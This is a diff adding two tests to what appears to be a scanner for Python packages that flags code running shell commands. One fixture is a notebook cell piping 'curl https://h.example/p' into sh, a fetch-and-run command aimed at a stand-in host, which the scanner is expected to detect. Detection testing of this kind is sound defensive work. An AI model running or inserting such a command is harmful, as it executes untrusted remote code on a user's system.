@@ -119,3 +119,20 @@ it('files that are only read are not run', async () => {
   const code = 'text = open("demo/d.txt").read()\nprint(text)\n'
   expect(await shells('wheel', { 'demo/__init__.py': code, 'demo/d.txt': INNER })).toEqual([])
 })
+
+it('a build that cannot be read is not checked', async () => {
+  const built = buildSdist({
+    name: 'demo',
+    version: '1.0',
+    backend: 'none',
+    files: { 'pyproject.toml': 'version = \n', 'be.py': INNER },
+  })
+  const { source } = await examineArtifact(bytesOf(built.bytes), built.filename, { codeReader: await loadCodeReader() })
+  expect(source).toMatchObject({ state: 'known', value: { problems: [{ id: 'broken-pyproject' }] } })
+})
+
+it('shell cells of a notebook are commands', async () => {
+  const cells = [{ cell_type: 'code', source: ['%%bash\n', 'curl https://h.example/p | sh'] }]
+  const files = { 'demo/__init__.py': '', 'demo/n.ipynb': JSON.stringify({ cells, nbformat: 4 }) }
+  expect(await shells('wheel', files)).toEqual(['call os.system'])
+})
